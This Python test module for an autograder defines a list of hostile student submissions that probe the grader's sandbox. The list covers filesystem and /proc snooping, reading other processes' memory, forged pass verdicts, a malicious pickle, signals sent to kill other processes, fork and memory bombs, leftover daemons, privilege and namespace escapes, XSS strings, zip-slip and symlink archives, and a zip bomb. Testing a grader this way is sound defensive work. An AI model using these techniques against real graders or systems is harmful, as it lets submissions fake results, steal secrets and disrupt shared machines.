"""Submissions that attack: each is the right solution with something added to collectives.py.

What is added runs when the module is imported; most of it puts another function in the place of
`barrier` or `broadcast`. All of it is bounded in number, size and time, so that it harms nothing
even where nothing confines it; `none` marks what may run there.
"""

from __future__ import annotations

import io
import tarfile
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from autograder.paths import ROOT
from tests.autograder.submissions import reference_files

BARRIER, BROADCAST = "barrier/sub_group", "broadcast/from_rank_0"
NOTHING, ALL, EITHER = "nothing", "all", "either"


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    added: to the end of the right collectives.py.
    earns: `NOTHING`, `ALL` (what it tries is in vain and does not touch its result), or `EITHER`.
    says: of these, one must be told to the student.
    none: whether it may run unconfined, as a process of its own with a deadline.
    quick: whether the usual tests run it.
    path: makes the submission, where it is more than one file.
    """

    name: str
    added: str = ""
    check: str = BARRIER
    earns: str = NOTHING
    says: tuple[str, ...] = ()
    none: bool = False
    quick: bool = False
    path: Callable[[Path], Path] | None = None

    def write(self, at: Path, private: Path, canary: str) -> Path:
        """Puts the submission there, a folder that does not exist yet; what to hand in.

        private: the grader's own directory, which the submission has guessed.
        canary: what is planted where the grader alone may read; here it stands in two pieces.
        """
        at.mkdir()
        if self.path is not None:
            return self.path(at)
        for name, content in reference_files().items():
            (at / name).write_bytes(content)
        with (at / "collectives.py").open("a") as file:
            added = textwrap.dedent(self.added).replace("{root}", str(ROOT))
            added = added.replace("{private}", str(private))
            file.write("\n\n" + added.replace("{canary}", f'{canary[:9]}" + b"{canary[9:]}'))
        return at


# Prints whatever it can get at; the tests look for what they have planted in what is shown.
SPY = """
import os, sys

def _show(what):
    print("BREACH", what)

def _read(path, most=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(most)
    except OSError:
        return b""

def _grep(where, content, most=2):
    for canary in _CANARIES[:most]:
        place = content.find(canary)
        if place >= 0:
            _show((where, content[place : place + 80]))

_CANARIES = [b"{canary}", b"def _require" + b"_barrier"]
_right_barrier = barrier

def barrier(group=None):
    if not hasattr(barrier, "done"):
        barrier.done = True
        _spy()
    _right_barrier(group)
"""

WALK = (
    SPY
    + """
def _spy():
    count = 0
    roots = ["{root}", "{private}", "/root", "/home", "/tmp", "/var/tmp", "/autograder", "/opt"]
    for root in roots:
        for folder, folders, names in os.walk(root):
            folders[:] = [f for f in folders if f not in ("site-packages", "node_modules", "proc")]
            for name in names:
                count += 1
                if count > 20_000:
                    return
                path = os.path.join(folder, name)
                # Elsewhere the repository's own text may lie, as somebody's copy of it.
                _grep(path, _read(path), 2 if root == "{root}" else 1)
"""
)

PROC = (
    SPY
    + """
def _spy():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for what in ("environ", "cmdline", "maps", "stack"):
            _grep((pid, what), _read(f"/proc/{pid}/{what}"))
        try:
            for fd in os.listdir(f"/proc/{pid}/fd") if int(pid) != os.getpid() else ():
                _grep((pid, fd), _read(f"/proc/{pid}/fd/{fd}", 1 << 16))
        except OSError:
            pass
    _grep("environ", repr(dict(os.environ)).encode())
"""
)

MEMORY = (
    SPY
    + """
def _spy():
    for pid in [os.getppid(), 1, os.getpid() - 1, os.getpid() + 1]:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                for line in list(maps)[:2000]:
                    begin, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line and end - begin < 64 << 20:
                        memory.seek(begin)
                        _grep((pid, line), memory.read(end - begin))
        except (OSError, ValueError, OverflowError):
            pass
    import ctypes
    libc = ctypes.CDLL(None)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        _show("attached to the leader")
"""
)

GC = (
    SPY
    + """
def _spy():
    import gc
    for thing in gc.get_objects()[:500_000]:
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, str):
                    value = value.encode("utf-8", "replace")
                if isinstance(value, bytes):
                    _grep("gc", value)
    frame = sys._getframe()
    while frame:
        _grep("frame", repr(list(frame.f_locals))[:100_000].encode())
        frame = frame.f_back
"""
)

THROUGH_DESCRIPTORS = (
    SPY
    + """
def _spy():
    import glob
    for fd in os.listdir("/proc/self/fd"):
        for up in ("..", "../..", "../../..", "../../../..", "../../../../.."):
            for room in ("reference/collectives.py", "autograder/checks/test_barrier.py"):
                _grep((fd, up, room), _read(f"/proc/self/fd/{fd}/{up}/{room}"))
"""
)

NETWORK = """
import socket, urllib.request
_right_barrier = barrier

def barrier(group=None):
    for family, kind in ((2, 1), (2, 2), (10, 1), (10, 2), (2, 3), (17, 3)):
        try:
            made = socket.socket(family, kind)
            made.settimeout(0.2)
            made.connect(("127.0.0.1", 9))
            print("BREACH opened", family, kind)
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://127.0.0.1:9/", timeout=0.2)
    except OSError:
        pass
    _right_barrier(group)
"""


def replaced(body: str, function: str = "barrier", before: str = "") -> str:
    """Puts a function with this body in the place of the right one."""
    signature = {"barrier": "group=None", "broadcast": "tensor, src, group=None"}[function]
    return (
        f"import os, sys, time, signal\n_right = {function}\n{textwrap.dedent(before)}\n"
        f"def {function}({signature}):\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
    )


# The connection on which a rank answers is the first of its sockets.
CONTROL = """
import stat
def _control():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            pass
"""
SPIN = "while True:\n    pass"

ATTACKS = [
    # --- reads what is not its own
    Attack("reads every file that it can", WALK, earns=ALL, quick=True),
    Attack("reads other processes through /proc", PROC, earns=ALL),
    Attack("reads and traces the memory of other processes", MEMORY, earns=ALL),
    Attack("searches its own memory and its callers", GC, earns=ALL),
    Attack("climbs out through open descriptors", THROUGH_DESCRIPTORS, earns=ALL),
    # --- forges the verdict
    Attack(
        "ends at once with success",
        replaced("os._exit(0)"),
        says=("exit",),
        none=True,
        quick=True,
    ),
    Attack("ends with success when it is imported", "import os\nos._exit(0)", none=True),
    Attack("raises SystemExit(0)", replaced("raise SystemExit(0)"), none=True),
    Attack(
        "registers an exit handler and leaves",
        replaced("import atexit\natexit.register(print, 'passed')\nsys.exit(0)"),
        none=True,
    ),
    Attack(
        "writes verdicts to every descriptor",
        replaced(
            r"""
            verdict = b'{"result": {"passed": true, "score": 1e9}}'
            for descriptor in range(3, 256):
                for frame in (b"PASS\n", len(verdict).to_bytes(8, "big") + verdict):
                    try:
                        os.write(descriptor, frame)
                    except OSError:
                        pass
            os._exit(0)
            """
        ),
        none=True,
        quick=True,
    ),
    Attack(
        "claims to return a gigabyte from every rank",
        replaced(
            r"""
            answer = b'{"result": {"entered": ["tensor", "float32", [268435456], 0]}}'
            for descriptor in [_control()]:
                try:
                    os.write(descriptor, len(answer).to_bytes(8, "big") + answer)
                except OSError:
                    pass
            time.sleep(1)
            os._exit(0)
            """,
            before=CONTROL,
        ),
        says=("outside its memory", "no answer"),
        none=True,
    ),
    Attack(
        "answers with millions of empty values",
        replaced(
            r"""
            count = 1_390_000
            answer = b'{"result": ["list"' + b",{}" * count + b"]}"
            for descriptor in [_control()]:
                try:
                    os.set_blocking(descriptor, True)
                    frame = len(answer).to_bytes(8, "big") + answer
                    while frame:
                        frame = frame[os.write(descriptor, frame):]
                except OSError:
                    pass
            os._exit(0)
            """,
            before=CONTROL,
        ),
        says=("no answer",),
        none=True,
    ),
    Attack(
        "sends a pickle that runs code",
        replaced(
            r"""
            import pickle
            class Evil:
                def __reduce__(self):
                    return (print, ("BREACH: unpickled",))
            payload = pickle.dumps(Evil())
            for descriptor in range(3, 256):
                try:
                    os.write(descriptor, len(payload).to_bytes(8, "big") + payload)
                except OSError:
                    pass
            time.sleep(1)
            os._exit(0)
            """
        ),
        none=True,
    ),
    Attack(
        "replaces what compares, and returns nothing right",
        replaced(
            "pass",
            "broadcast",
            """
            import torch, numpy
            yes = lambda *a, **k: True
            torch.equal = torch.allclose = torch.testing.assert_close = yes
            numpy.array_equal = numpy.allclose = yes
            torch.Tensor.__eq__ = torch.Tensor.__ne__ = yes
            """,
        ),
        BROADCAST,
        none=True,
        quick=True,
    ),
    Attack(
        "returns NaN everywhere",
        replaced("tensor.fill_(float('nan'))", "broadcast"),
        BROADCAST,
        none=True,
    ),
    Attack(
        "makes its tensor one that equals everything",
        replaced(
            """
            class Equal(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, args=(), kwargs=None):
                    return True
            tensor.__class__ = Equal
            """,
            "broadcast",
        ),
        BROADCAST,
        none=True,
    ),
    Attack(
        "stops the clock",
        replaced("pass", before="time.monotonic = time.perf_counter = time.time = lambda: 0.0"),
        none=True,
    ),
    Attack(
        "replaces torch and multirank among the modules",
        replaced(
            "_right(group)",
            before="""
            import types
            for name in list(sys.modules):
                if name.startswith(("multirank", "json", "<")):
                    sys.modules[name] = types.SimpleNamespace()
            """,
        ),
        earns=EITHER,
        none=True,
    ),
    Attack(
        "replaces json's encoder, so that every answer is another",
        replaced(
            "_right(group)", before="import json\njson.dumps = lambda *a, **k: '{\"result\": 1}'"
        ),
        none=True,
    ),
    Attack(
        "collects garbage that is not its own",
        replaced(
            """
            import gc
            for thing in gc.get_objects():
                if isinstance(thing, dict) and "entered" in thing:
                    thing.clear()
            for thing in gc.get_objects():
                if isinstance(thing, list) and {type(x) for x in thing[:9]} == {float}:
                    thing[:] = [0.0] * 9
            """
        ),
        none=True,
    ),
    Attack(
        "shrinks the shared memory",
        replaced(
            """
            for descriptor in range(3, 256):
                try:
                    os.ftruncate(descriptor, 0)
                except OSError:
                    pass
            _right(group)
            """
        ),
        earns=EITHER,
        none=True,
    ),
    Attack(
        "scribbles over the record of its communication",
        replaced(
            """
            import mmap
            for descriptor in range(3, 256):
                try:
                    if "trace" in os.readlink(f"/proc/self/fd/{descriptor}"):
                        with mmap.mmap(descriptor, 1 << 20) as memory:
                            memory[8 : 1 << 20] = os.urandom((1 << 20) - 8)
                except (OSError, ValueError):
                    pass
            _right(group)
            """
        ),
        none=True,
    ),
    Attack(
        "writes markup into the record of its communication",
        replaced(
            """
            import multirank
            multirank.mark("<script>alert(1)</script>")
            with multirank.span("</svg></pre><script>alert(1)</script>\x1b[2J"):
                _right(group)
            raise RuntimeError("<script>alert(1)</script>")
            """
        ),
        none=True,
    ),
    Attack(
        "records marks without number",
        replaced(
            """
            import multirank
            for number in range(300_000):
                multirank.mark("x" * 200)
            _right(group)
            """
        ),
        says=("record", "had not finished"),
        none=True,
    ),
    # --- harms the grader or its siblings
    Attack(
        "kills everybody",
        replaced(
            """
            for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
                for target in (os.getppid(), 1, -1, 0, -os.getppid()):
                    try:
                        os.kill(target, number)
                        print("BREACH reached", target)
                    except OSError:
                        pass
            _right(group)
            """
        ),
        earns=ALL,
        quick=True,
    ),
    Attack(
        "stops itself",
        replaced("os.kill(os.getpid(), signal.SIGSTOP)"),
        none=True,
    ),
    Attack("kills itself", replaced("os.kill(os.getpid(), signal.SIGKILL)"), none=True),
    Attack("aborts", replaced("os.abort()"), none=True),
    Attack(
        "sleeps for ever, deaf to signals",
        replaced(
            """
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            time.sleep(1e6)
            """
        ),
        none=True,
    ),
    Attack("sleeps when it is imported", "import time\ntime.sleep(1e6)", none=True),
    Attack("spins for ever", replaced(SPIN), none=True),
    Attack(
        "waits for a message that never comes", replaced("dist.recv(torch.ones(1), 0)"), none=True
    ),
    Attack(
        "forks until it cannot",
        replaced(
            """
            made = 0
            try:
                for made in range(2000):
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
            except OSError as error:
                print("FORKED", made, error)
            raise MemoryError("forked")
            """
        ),
        quick=True,
    ),
    Attack(
        "starts threads until it cannot",
        replaced(
            """
            import threading
            made = 0
            try:
                for made in range(5000):
                    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            except RuntimeError as error:
                print("STARTED", made, error)
            raise MemoryError("threads")
            """
        ),
    ),
    Attack(
        "takes memory until it cannot",
        replaced(
            """
            held = []
            for _ in range(256):
                held.append(b"x" * (64 << 20))
            print("TOOK", len(held) * 64, "MiB")
            time.sleep(30)
            """
        ),
        says=("memory", "had not finished"),
    ),
    Attack(
        "fills every place for files",
        replaced(
            """
            written = 0
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.environ["TMPDIR"], "/"):
                try:
                    for number in range(12):
                        name = f"{folder}/hostile-{os.getpid()}-{number}"
                        with open(name, "wb") as file:
                            for _ in range(100):
                                written += file.write(b"x" * (1 << 20))
                except OSError as error:
                    print("FULL", folder, error)
            print("WROTE", written >> 20)
            raise MemoryError("files")
            """
        ),
    ),
    Attack(
        "nests folders deeper than any stack and longer than any path",
        replaced(
            """
            for folder in (os.environ.get("TMPDIR", "/tmp"), "/dev/shm"):
                try:
                    os.chdir(folder)
                    for _ in range(3000):
                        os.mkdir("a-folder-in-a-folder")
                        os.chdir("a-folder-in-a-folder")
                except OSError as error:
                    print("NESTED", error)
            os.chdir("/")
            _right(group)
            """
        ),
        earns=EITHER,
    ),
    Attack(
        "makes files without number",
        replaced(
            """
            for folder in ("/tmp", "/dev/shm", os.environ["TMPDIR"]):
                try:
                    for number in range(20_000):
                        open(f"{folder}/hostile-{os.getpid()}-{number}", "wb").close()
                except OSError as error:
                    print("FULL", folder, number, error)
            raise MemoryError("files")
            """
        ),
    ),
    Attack(
        "opens descriptors until it cannot",
        replaced(
            """
            held = []
            try:
                for _ in range(20_000):
                    held.append(os.pipe())
            except OSError as error:
                print("HELD", len(held), error)
            raise MemoryError("descriptors")
            """
        ),
    ),
    Attack(
        "prints without end",
        replaced("while True:\n    os.write(1, b'\\x1b[2J<script>alert(1)</script>' * 4096)"),
        says=("printed more than",),
        none=True,
        quick=True,
    ),
    Attack(
        "raises an error of a hundred megabytes",
        replaced("raise RuntimeError('\\x1b]0;owned\\x07</pre><script>' + 'x' * (100 << 20))"),
        none=True,
    ),
    Attack(
        "recurses without end",
        "import sys\nsys.setrecursionlimit(10**9)\ndef barrier(group=None):\n    barrier()\n",
        none=True,
    ),
    Attack(
        "closes what it talks with",
        replaced("os.closerange(0, 4096)\ntime.sleep(1e6)"),
        none=True,
    ),
    # --- stays behind
    Attack(
        "leaves daemons behind",
        replaced(
            """
            for _ in range(3):
                if os.fork() == 0:
                    os.setsid()
                    if os.fork() == 0:
                        for number in (1, 2, 15):
                            signal.signal(number, signal.SIG_IGN)
                        time.sleep(600)
                    os._exit(0)
            _right(group)
            """
        ),
        earns=EITHER,
    ),
    Attack(
        "lets a thread run on",
        replaced(
            """
            import threading
            def run():
                while True:
                    sum(range(1000))
            threading.Thread(target=run, daemon=True).start()
            _right(group)
            """
        ),
        earns=EITHER,
        none=True,
    ),
    Attack(
        "leaves files for the next run, and looks for them",
        replaced(
            """
            import glob
            own = os.environ.get("TMPDIR", "/tmp")
            for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", own):
                mine = f"{folder}/hostile-message-{os.getpid()}"
                old = [n for n in glob.glob(f"{folder}/hostile-message-*")
                       if time.time() - os.stat(n).st_mtime > 5]
                if old:
                    print("BREACH found old", old)
                try:
                    with open(mine, "w") as file:
                        file.write("values")
                    os.makedirs(f"{folder}/hostile-message-folder-{os.getpid()}/a/b", exist_ok=True)
                except OSError:
                    pass
            _right(group)
            """
        ),
        earns=ALL,
    ),
    # --- reaches out
    Attack("opens connections", NETWORK, earns=ALL),
    Attack(
        "starts other programs",
        replaced(
            """
            import subprocess
            word = "BREA" "CH"
            for command in (["/bin/echo", word], [sys.executable, "-c", f"print('{word}')"]):
                try:
                    print(subprocess.run(command, capture_output=True, timeout=5).stdout)
                except OSError:
                    pass
            os.system(f"echo {word}")
            _right(group)
            """
        ),
        earns=ALL,
    ),
    Attack(
        "makes namespaces and mounts",
        replaced(
            """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            for flags in (0x10000000, 0x40000000, 0x20000, 0x10000000 | 0x20000):
                if libc.unshare(flags) == 0:
                    print("BREACH unshared", hex(flags))
            if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
                print("BREACH mounted")
            for call in (425, 321, 298, 323, 438):
                if libc.syscall(call, 8, 0, 0, 0, 0) >= 0:
                    print("BREACH called", call)
            try:
                os.setuid(0)
                print("BREACH became root")
            except OSError:
                pass
            _right(group)
            """
        ),
        earns=ALL,
    ),
    Attack(
        "makes a group of its own to hide its communication in",
        replaced(
            "hidden = dist.new_group()\ndist.all_reduce(torch.ones(1), group=hidden)\n_right(group)"
        ),
        says=("make no process groups", "allows only"),
    ),
]


# --- more than one file ---------------------------------------------------------------------------


def hijackers(at: Path) -> Path:
    """Files that other programs would obey, beside the right solution."""
    for name, content in reference_files().items():
        (at / name).write_bytes(content)
    evil = "import os\nprint('BREACH: hijacked')\nos._exit(0)\n"
    for name in ("conftest", "sitecustomize", "usercustomize", "torch", "numpy", "json", "pytest"):
        (at / f"{name}.py").write_text(evil)
    (at / "pytest.ini").write_text("[pytest]\naddopts = --collect-only\n")
    (at / "evil.pth").write_text("import os; os._exit(0)\n")
    return at


def linked(at: Path) -> Path:
    """A link to what the grader may read, in the place of a module."""
    for name, content in reference_files().items():
        (at / name).write_bytes(content)
    (at / "collectives.py").unlink()
    (at / "collectives.py").symlink_to(Path(__file__).parents[3] / "autograder" / "judge.py")
    (at / "more").symlink_to("/")
    return at


def slipping(at: Path) -> Path:
    """A zip whose members lead out of it, and a link in it."""
    packed = at / "slip.zip"
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in reference_files().items():
            archive.writestr(name, content)
        archive.writestr("../../../tmp/hostile-slip", "out")
        archive.writestr("/tmp/hostile-slip", "out")
        link = zipfile.ZipInfo("more.py")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return packed


def devices(at: Path) -> Path:
    """A tar with a device, a pipe and links among the modules."""
    packed = at / "devices.tar"
    with tarfile.open(packed, "w") as archive:
        for name, content in reference_files().items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
        for name, kind in (
            ("pipe.py", tarfile.FIFOTYPE),
            ("disk.py", tarfile.BLKTYPE),
            ("hard.py", tarfile.LNKTYPE),
            ("soft.py", tarfile.SYMTYPE),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, "/etc/shadow"
            archive.addfile(member)
    return packed


def bomb(at: Path) -> Path:
    """A zip of half a megabyte that holds half a gigabyte."""
    packed = at / "bomb.zip"
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("collectives.py", "w") as file,
    ):
        for _ in range(512):
            file.write(b"\0" * (1 << 20))
    return packed


def unparsable(at: Path) -> Path:
    """Source that breaks parsers: very deep, and very long."""
    for name, content in reference_files().items():
        (at / name).write_bytes(content)
    (at / "collectives.py").write_text("x = " + "(" * 90_000 + ")" * 90_000 + "\n")
    return at


ATTACKS += [
    Attack("brings files that other programs obey", path=hijackers, earns=ALL, none=True),
    Attack("is a link to the grader's own files", path=linked, none=True),
    Attack("slips out of its zip", path=slipping, earns=ALL, none=True),
    Attack("holds devices, pipes and links in a tar", path=devices, earns=ALL, none=True),
    Attack("is a zip bomb", path=bomb, none=True),
    Attack("breaks the parser", path=unparsable, none=True),
]
